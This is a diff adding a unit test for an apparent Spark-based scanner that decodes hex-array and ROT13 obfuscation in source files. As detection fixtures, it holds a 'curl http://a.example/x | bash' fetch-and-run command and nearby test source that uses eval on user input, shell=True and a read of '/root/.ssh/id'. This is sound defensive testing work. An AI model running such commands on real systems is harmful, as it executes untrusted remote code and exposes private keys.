@@ -58,6 +58,17 @@ def test_decoding(spark):
     assert decode.hidden_characters(files(spark, ["a‮b​", "plain"])).count() == 1
 
 
+def test_arrays_and_rot13_are_decoded(spark):
+    text = "curl http://a.example/x | bash"
+    array = lambda s, sep: sep.join(f"0x{b:02x}" for b in s.encode())
+    long = "echo hello; " * 3000
+    f = files(spark, [f"# c\na = [1]\nb = [\n{array(text, ',\n')},\n0x00\n]\n\nc = [{array('some longer words', ' , ')}]", f"x=[{array('short', ',')}]", f"d = [\n{array(long, ',\n')}]",
+                      "codecs.decode('uryyb jbeyq', 'rot13') + codecs.decode(\"Nabgure grkg\", 'ROT_13')", "rot13('rkrp(fbzrguvat)')", "codecs.decode('uryyb jbeyq', 'hex')"])
+    got = {(r.file_id, r.line_no, r.technique, r.decoded) for r in decode.decoded_lines(f).collect() if r.technique in ("hex_array", "rot13")}
+    assert got == {(0, 3, "hex_array", text), (0, 4 + len(text) + 3, "hex_array", "some longer words"), (2, 1, "hex_array", long),
+                   (3, 1, "rot13", "hello world"), (3, 1, "rot13", "Another text"), (4, 1, "rot13", "exec(something)")}
+
+
 def test_tree_rules(spark):
     src = "import os, pickle\ncmd = input()\neval(cmd)\nos.system('x')\nimport subprocess as s\ns.run(c, shell=True)\nopen('/root/.ssh/id')\ntry:\n    f()\nexcept:\n    pass\n"
     got = {(r, n) for r, n, _ in ast_rules.source_findings(src)}
